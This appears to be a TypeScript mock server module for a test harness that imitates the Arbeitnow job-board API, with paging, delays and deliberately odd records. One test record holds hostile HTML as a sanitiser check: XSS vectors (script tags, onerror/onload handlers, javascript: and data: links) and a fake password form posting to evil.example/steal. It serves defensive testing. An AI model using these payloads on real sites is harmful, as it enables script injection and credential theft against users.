import { samplePage, sampleJob } from '../../../src/services/jobs/fake/sample-jobs.ts';
import type { UpstreamModule } from '../types.ts';

/** Rotating featured terms, as seen in the real `links.*`: an app that follows them narrows results. */
const FEATURED_TAGS = ['Developpeur', 'Marketing', 'Pflege', 'Engineering'];
const ANCHOR_SECONDS = Math.floor(Date.now() / 3_600_000) * 3600;

export const HOSTILE_SLUG = 'hostile-html-test-job-999001';

const HOSTILE_DESCRIPTION = [
  '<p>Gr&uuml;&szlig;e aus M&uuml;nchen &amp; Umgebung. <strong>Safe bold text.</strong></p>',
  '<script>window.__pwned = "script"; alert(1)</script>',
  '<img src="x" onerror="window.__pwned=\'img\'; alert(2)">',
  '<p><a href="javascript:window.__pwned=\'js-link\'">javascript link</a> <a href="data:text/html,<script>alert(3)</script>">data link</a> <a href="https://example.com/safe" onclick="window.__pwned=\'click\'">safe link</a></p>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="5"></circle></svg>',
  '<style>body { display: none !important; }</style>',
  '<p style="position:fixed;inset:0;background:red">styled paragraph</p>',
  '<iframe src="https://example.com/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
].join('\n');

/** Odd but valid records: hostile HTML, nulls, strings for numbers, RTL, emoji, huge strings. */
function special(index: number): unknown {
  const base = sampleJob(index, ANCHOR_SECONDS);
  switch (index) {
    case 2:
      return { ...base, slug: HOSTILE_SLUG, title: 'Hostile description test job', description: HOSTILE_DESCRIPTION, url: 'javascript:alert(4)' };
    case 5:
      return { ...base, location: null, tags: null, job_types: undefined, created_at: String(base.created_at), remote: 'true' };
    case 7:
      return { ...base, title: `وظيفة مطور 🚀 ${'Sehr-langer-Titel-ohne-Leerzeichen'.repeat(8)}`, company_name: 'شركة 🌍 Global' };
    case 9:
      return { ...base, tags: Array.from({ length: 200 }, (_, n) => `tag-${n}`) };
    default:
      return undefined;
  }
}

/**
 * Arbeitnow's job board: 1-based pages of `perPage` jobs (state.totalJobs, default 250), newest
 * first; past the end `data: []` with `links.next: null`. state.delayMs slows every page.
 * `visa_sponsorship=true` answers the visa-flagged subset in the same shape, paged on its own
 * (`false` or anything else: the whole board). state.freshJobs puts that many newer jobs on top;
 * state.repeatAcrossPages starts each later page with the last job of the page before.
 */
export const jobs: UpstreamModule = {
  name: 'jobs',
  cors: 'open',
  rateLimitBody: () => ({ message: 'Too Many Attempts.' }),
  async handle(ctx) {
    if (ctx.path !== '/api/job-board-api' || ctx.req.method !== 'GET') return;
    const page = Math.max(1, Number(ctx.url.searchParams.get('page')) || 1);
    const total = Number(ctx.state.totalJobs ?? 250);
    const perPage = Number(ctx.state.perPage ?? 100);
    const delayMs = Number(ctx.state.delayMs ?? 0);
    if (delayMs > 0) await new Promise((resolve) => setTimeout(resolve, delayMs));
    const host = `http://${ctx.req.headers.host ?? '127.0.0.1'}/jobs/api/job-board-api`;
    ctx.json(
      200,
      samplePage({
        page,
        total,
        perPage,
        anchorSeconds: ANCHOR_SECONDS,
        path: host,
        tag: FEATURED_TAGS[page % FEATURED_TAGS.length],
        special,
        visaOnly: ctx.url.searchParams.get('visa_sponsorship') === 'true',
        fresh: Number(ctx.state.freshJobs ?? 0),
        repeatAcrossPages: ctx.state.repeatAcrossPages === true,
      }),
    );
  },
};
